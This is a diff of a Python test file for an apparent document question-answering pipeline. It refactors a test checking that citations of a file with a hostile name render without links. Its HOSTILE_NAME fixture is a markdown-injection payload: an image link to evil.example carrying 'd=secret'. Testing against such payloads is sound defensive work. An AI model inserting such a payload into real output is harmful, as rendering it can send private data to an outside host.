@@ -10,12 +10,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from pipeline.guards.citations import build_section, citation_label
+from pipeline.guards.citations import citation_label
 from pipeline.guards.sanitise import markdown_literal, sanitise
-from pipeline.program.events import Section, render_markdown
-from pipeline.types import Chunk, ChunkHit
-from pipeline.vocabulary import Vocabulary
-from signatures.models import AnswerSection, Bullet, Citation
+from pipeline.program.events import Evidence, Section, SourceRef, render_markdown
 from tests.support.harmless import assert_markdown_safe
 
 HOSTILE_NAME = "rent](https:evil.example) ![p](https:evil.example?d=secret) [y.md"
@@ -124,12 +121,19 @@ def test_any_name_renders_as_itself_and_makes_no_link(name: str) -> None:
 
 
 def test_a_section_citing_a_hostile_file_has_no_link_in_its_markdown() -> None:
-    chunks = [ChunkHit(Chunk(0, "doc-a", 1, 0, "Monthly rent: KSH 285,000 payable in advance."), HOSTILE_NAME, 1.0)]
-    bullets = [Bullet(text="Monthly rent: KSH 285,000", citations=[Citation(filename=HOSTILE_NAME, page=1)])]
-    verdict = build_section(
-        0, "What is the rent?", chunks, AnswerSection(sub_question_index=0, bullets=bullets), None, 5, Vocabulary()
+    source = SourceRef(document_id="doc-a", filename=HOSTILE_NAME, page=1)
+    section = Section(
+        index=0,
+        sub_question="What is the rent?",
+        answer="KSH 285,000",
+        answer_sources=(source,),
+        evidence=(Evidence(text="Monthly rent: KSH 285,000 payable in advance.", source=source),),
+        sources=(source,),
     )
-    (bullet,) = verdict.bullets
-    markdown = render_markdown([Section(index=0, sub_question="What is the rent?", bullets=verdict.bullets)])
+    markdown = render_markdown([section])
     assert_markdown_safe(markdown)
-    assert _text(f"- {bullet}") == f"Monthly rent: KSH 285,000 [{HOSTILE_NAME}, page 1]"
+    assert _text(f"- {section.cited_answer}") == f"KSH 285,000 [{HOSTILE_NAME}, page 1]"
+    assert (
+        _text(f"- {section.cited_evidence[0]}")
+        == f"Monthly rent: KSH 285,000 payable in advance. [{HOSTILE_NAME}, page 1]"
+    )
